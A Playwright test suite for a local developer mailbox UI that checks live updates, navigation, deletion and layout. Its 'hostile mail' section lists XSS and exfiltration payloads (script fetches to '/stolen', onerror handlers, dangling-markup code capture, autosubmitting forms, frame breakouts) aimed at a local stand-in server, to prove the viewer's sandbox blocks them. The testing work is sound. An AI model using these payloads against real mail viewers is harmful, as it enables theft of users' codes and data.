import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from '../reset-page/browser.ts';
import { ask } from './ask.ts';
import { clientId, mail, type PagesServer, poolId, startPages } from './pages-server.ts';

let browser: Browser;
before(async () => {
  browser = await launchBrowser();
});
after(() => browser.close());

/** A server of pages and a tab on it, which end with the test. */
async function visit(
  work: (page: Page, server: PagesServer) => Promise<void>,
  options: { javaScriptEnabled?: boolean; viewport?: { width: number; height: number } } = {},
): Promise<void> {
  const server = await startPages();
  const context = await browser.newContext(options);
  const problems: string[] = [];
  try {
    const page = await context.newPage();
    page.on('pageerror', error => problems.push(error.message));
    await work(page, server);
  } finally {
    await context.close();
    await server.close();
  }
  assert.deepEqual(problems, []);
}

const item = (page: Page, id: string) => page.locator(`#mail-list a[href^="/_lifeguard/mail/${id}"]`);

describe('the mailbox in a browser', () => {
  test('says that it is empty, then shows what arrives without a reload', () =>
    visit(async (page, server) => {
      await page.goto(`${server.origin}/_lifeguard/mailbox`);
      await page.getByText('No mail yet.').waitFor();
      await page.locator('[data-live-state]:not(.off)').waitFor();
      const message = mail();
      await server.keep(message);
      await item(page, message.id).waitFor();
      await page.frameLocator('iframe').getByText('Your code is').waitFor();
      await page.getByText('New message to ada@example.com: Reset your password').waitFor();
    }));

  test('opens messages by click, arrow keys and the back button', () =>
    visit(async (page, server) => {
      const [older, newer] = [
        mail({ subject: 'Older', sentAt: 1000 }),
        mail({ subject: 'Newer', sentAt: 2000 }),
      ];
      await server.keep(older, newer);
      await page.goto(`${server.origin}/_lifeguard/mailbox`);
      await page.getByRole('heading', { name: 'Newer' }).waitFor();
      await item(page, older.id).click();
      await page.getByRole('heading', { name: 'Older' }).waitFor();
      assert.equal(new URL(page.url()).pathname, `/_lifeguard/mail/${older.id}`);
      await item(page, older.id).focus();
      await page.keyboard.press('ArrowUp');
      await page.getByRole('heading', { name: 'Newer' }).waitFor();
      await page.waitForURL(`**/mail/${newer.id}`);
      await page.goBack();
      await page.waitForURL('**/mailbox');
      await page.getByRole('heading', { name: 'Newer' }).waitFor();
    }));

  test('leaves the message that one chose while others arrive', () =>
    visit(async (page, server) => {
      const chosen = mail({ subject: 'Chosen' });
      await server.keep(chosen);
      await page.goto(`${server.origin}/_lifeguard/mail/${chosen.id}`);
      await page.locator('[data-live-state]:not(.off)').waitFor();
      const later = mail({ subject: 'Later', sentAt: chosen.sentAt + 1000 });
      await server.keep(later);
      await item(page, later.id).waitFor();
      await page.getByRole('heading', { name: 'Chosen' }).waitFor();
    }));

  test('deletes a message, and all of them when that is confirmed', () =>
    visit(async (page, server) => {
      const [first, second] = [mail({ sentAt: 1000 }), mail({ sentAt: 2000 })];
      await server.keep(first, second, mail({ sentAt: 500 }));
      await page.goto(`${server.origin}/_lifeguard/mail/${first.id}`);
      await page.locator('#reading').getByRole('button', { name: 'Delete' }).click();
      await item(page, first.id).waitFor({ state: 'detached' });
      await item(page, second.id).waitFor();
      page.on('dialog', dialog => dialog.accept());
      await page.getByRole('button', { name: 'Empty' }).click();
      await page.getByText('No mail yet.').waitFor();
      assert.deepEqual(await server.mailbox.list({ limit: 10 }), []);
    }));

  test('shows text, details and the other colours of a mail', () =>
    visit(async (page, server) => {
      const html =
        '<meta name="color-scheme" content="light dark"><style>p{color:#111}@media (prefers-color-scheme: dark){p{color:#eee}}</style><p>Code 123456</p>';
      await server.keep(mail({ html }));
      await page.goto(`${server.origin}/_lifeguard/mailbox`);
      const colour = () =>
        page
          .frameLocator('iframe')
          .locator('p')
          .evaluate(p => p.ownerDocument.defaultView?.getComputedStyle(p).color);
      assert.equal(await colour(), 'rgb(17, 17, 17)');
      await page.getByRole('link', { name: 'Dark' }).click();
      await page.waitForURL('**?scheme=dark');
      await page.locator('iframe[src*="scheme=dark"]').waitFor();
      assert.equal(await colour(), 'rgb(238, 238, 238)');
      await page.getByRole('link', { name: 'Text' }).click();
      await page.getByLabel("The mail's plain text").waitFor();
      await page.getByRole('link', { name: 'Details' }).click();
      await page.getByText('characters').waitFor();
      await page.getByLabel('HTML source').getByText('<p>Code 123456</p>').waitFor();
    }));

  test('works without scripts', () =>
    visit(
      async (page, server) => {
        const message = mail({ subject: 'Plain' });
        await server.keep(message, mail({ to: 'bob@example.com', sentAt: message.sentAt + 1 }));
        await page.goto(`${server.origin}/_lifeguard/mailbox`);
        await page.getByLabel('Recipient, whole address').fill('ada@example.com');
        await page.getByRole('button', { name: 'Show' }).click();
        assert.equal(await page.locator('#mail-list li').count(), 1);
        await item(page, message.id).click();
        await page.getByRole('heading', { name: 'Plain' }).waitFor();
      },
      { javaScriptEnabled: false },
    ));

  test('shows either the list or the message on a phone', () =>
    visit(
      async (page, server) => {
        const message = mail({ subject: 'Small' });
        await server.keep(message);
        await page.goto(`${server.origin}/_lifeguard/mailbox`);
        assert.equal(await page.getByRole('heading', { name: 'Small' }).isVisible(), false);
        await item(page, message.id).click();
        await page.getByRole('heading', { name: 'Small' }).waitFor();
        assert.equal(await item(page, message.id).isVisible(), false);
        await page.getByRole('link', { name: '‹ Mailbox' }).click();
        await item(page, message.id).waitFor();
        const width = await page.evaluate('document.documentElement.scrollWidth');
        assert.equal(width, 390);
      },
      { viewport: { width: 390, height: 844 } },
    ));
});

/** A server of somebody else's, which remembers what it was asked for. */
async function startOutside() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' });
    response.end('<title>outside</title>');
  });
  server.listen(0, '127.0.0.1').unref();
  await once(server, 'listening');
  // A server that listens on a TCP port has an AddressInfo.
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { asked, origin, close: () => server.close() };
}

/** Gives what a page set off when it loaded the time to happen; too little makes a test blind, never red. */
async function settled(page: Page): Promise<void> {
  await page.waitForTimeout(100);
}

describe('a hostile mail', () => {
  const attacks: readonly [name: string, html: (outside: string) => string][] = [
    ['a script', out => `<script>fetch('${out}/stolen');top.location='${out}/top'</script>`],
    ['an error handler', out => `<img src="x" onerror="fetch('${out}/stolen');top.location='${out}/top'">`],
    [
      'a script in SVG',
      out => `<svg onload="fetch('${out}/stolen')"><script>fetch('${out}/svg')</script></svg>`,
    ],
    ['a refresh', out => `<meta http-equiv="refresh" content="0;url=${out}/refresh">`],
    ['a remote image', out => `<img src="${out}/pixel"><div style="background:url(${out}/css)">x</div>`],
    ['an image that swallows what follows', out => `<img src='${out}/?code=`],
    [
      'a style sheet and a font',
      out =>
        `<link rel="stylesheet" href="${out}/a.css"><style>@import url(${out}/b.css);@font-face{font-family:f;src:url(${out}/f)}p{font-family:f}</style><p>x</p>`,
    ],
    [
      'a frame',
      out =>
        `<iframe src="${out}/frame"></iframe><object data="${out}/object"></object><embed src="${out}/embed">`,
    ],
    ['a base', out => `<base href="${out}/"><img src="relative"><a href="relative">x</a>`],
    ['a prefetch', out => `<link rel="prefetch" href="${out}/pre"><link rel="preconnect" href="${out}">`],
    [
      'an autofocused form',
      out => `<form action="${out}/form" id="f"><input autofocus onfocus="f.submit()"></form>`,
    ],
    [
      'HTML that closes ours',
      out =>
        `</iframe></section></main><script src="${out}/x.js"></script><img src=x onerror="fetch('${out}/y')">`,
    ],
  ];
  for (const [name, html] of attacks) {
    test(`with ${name} runs nothing, loads nothing and goes nowhere`, () =>
      visit(async (page, server) => {
        const outside = await startOutside();
        const message = mail({
          html: `${html(outside.origin)}<p>It's 123456</p>`,
          subject: html(outside.origin),
        });
        await server.keep(message);
        const address = `${server.origin}/_lifeguard/mail/${message.id}`;
        for (const place of [address, `${address}?view=text`, `${address}?view=details`, `${address}/body`]) {
          await page.goto(place);
          await settled(page);
          assert.equal(page.url(), place);
        }
        assert.deepEqual(outside.asked, []);
        outside.close();
      }));
  }

  test('cannot send a form, however it is sent', () =>
    visit(async (page, server) => {
      const outside = await startOutside();
      await server.keep(
        mail({ html: `<form action="${outside.origin}/form" target="_top"><button>Go</button></form>` }),
      );
      await page.goto(`${server.origin}/_lifeguard/mailbox`);
      await page.frameLocator('iframe').getByRole('button', { name: 'Go' }).click();
      // The link below answers later than the form would.
      await ask(outside.origin, '/later');
      assert.deepEqual(outside.asked, ['GET /later']);
      assert.equal(page.url(), `${server.origin}/_lifeguard/mailbox`);
      outside.close();
    }));

  for (const target of ['_top', '_parent', '_self', 'other']) {
    test(`opens its links in a window of their own that cannot reach back, also with target ${target}`, () =>
      visit(async (page, server) => {
        const outside = await startOutside();
        await server.keep(
          mail({ html: `<a target="${target}" rel="opener" href="${outside.origin}/link">Go</a>` }),
        );
        await page.goto(`${server.origin}/_lifeguard/mailbox`);
        const opening = page.context().waitForEvent('page');
        await page.frameLocator('iframe').getByRole('link', { name: 'Go' }).click();
        const opened = await opening;
        await opened.waitForURL(`${outside.origin}/link`);
        assert.equal(await opened.evaluate('window.opener'), null);
        assert.equal(await opened.evaluate('document.referrer'), '');
        assert.equal(page.url(), `${server.origin}/_lifeguard/mailbox`);
        outside.close();
      }));
  }

  test('loads its images once its reader asks', () =>
    visit(async (page, server) => {
      const outside = await startOutside();
      await server.keep(mail({ html: `<img src="${outside.origin}/logo">` }));
      await page.goto(`${server.origin}/_lifeguard/mailbox`);
      await page.getByRole('link', { name: 'Load them' }).click();
      await page.waitForURL('**?images=shown');
      await page.locator('iframe[src*="images=shown"]').waitFor();
      while (outside.asked.length === 0) await settled(page);
      assert.deepEqual(outside.asked, ['GET /logo']);
      outside.close();
    }));
});

/** What a page of another origin may try; text, since it runs in the browser. */
const tryEverything = `async origin => {
  const read = (path, options) => fetch(origin + path, options).then(answer => answer.status, () => 'refused');
  const stream = new EventSource(origin + '/_lifeguard/mail?since=0');
  const streamed = await new Promise(resolve => {
    stream.onmessage = () => resolve('message');
    stream.onerror = () => resolve('refused');
  });
  stream.close();
  const script = document.createElement('script');
  const loaded = new Promise(resolve => {
    script.onload = () => resolve('loaded');
    script.onerror = () => resolve('refused');
  });
  script.src = origin + '/_lifeguard/mail';
  document.head.append(script);
  return [
    await read('/_lifeguard/mail'),
    await read('/_lifeguard/events'),
    await read('/_lifeguard/mail', { method: 'DELETE' }),
    streamed,
    await loaded,
  ];
}`;

describe('another origin in a browser', () => {
  test('can neither read, stream, load, frame, nor delete the mail', () =>
    visit(async (page, server) => {
      await server.keep(mail());
      const outside = await startOutside();
      await page.goto(outside.origin);
      const got = await page.evaluate(`(${tryEverything})(${JSON.stringify(server.origin)})`);
      assert.deepEqual(got, ['refused', 'refused', 'refused', 'refused', 'refused']);
      await page.setContent(`<iframe src="${server.origin}/_lifeguard/mailbox"></iframe>`);
      await settled(page);
      for (const frame of page.frames()) assert.doesNotMatch(await frame.content(), /123456/);
      assert.equal((await server.mailbox.list({ limit: 10 })).length, 1);
      outside.close();
    }));
});

describe('the overview in a browser', () => {
  test('shows calls as they come, keeps open what one opened, and copies ids', () =>
    visit(async (page, server) => {
      const call = {
        time: Date.now(),
        requestId: crypto.randomUUID(),
        operation: 'ConfirmForgotPassword',
        poolId,
        clientId,
        outcome: 'failed',
        error: {
          type: 'ExpiredCodeException',
          message: 'Invalid code provided, please request a code again.',
        },
        cause: { id: 'code-expired', title: 'The code is too old', facts: { expiredAt: Date.now() } },
        triggers: [],
        messages: [],
        milliseconds: 1,
      } as const;
      await page.goto(`${server.origin}/_lifeguard/`);
      await page.getByText('No calls yet.').waitFor();
      await page.locator('[data-live-state]:not(.off)').waitFor();
      server.recorder.record(call);
      await page.getByText('The code is too old').first().click();
      await page.getByText('Invalid code provided').waitFor();
      server.recorder.record({ ...call, operation: 'InitiateAuth', outcome: 'ok' });
      await page.getByText('InitiateAuth').waitFor();
      assert.ok(await page.locator('#call-1').getByText('Invalid code provided').isVisible());
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
      await page.getByRole('button', { name: 'Copy the client id' }).click();
      await page.locator('.copy.copied').waitFor();
      assert.equal(await page.evaluate('navigator.clipboard.readText()'), clientId);
    }));
});
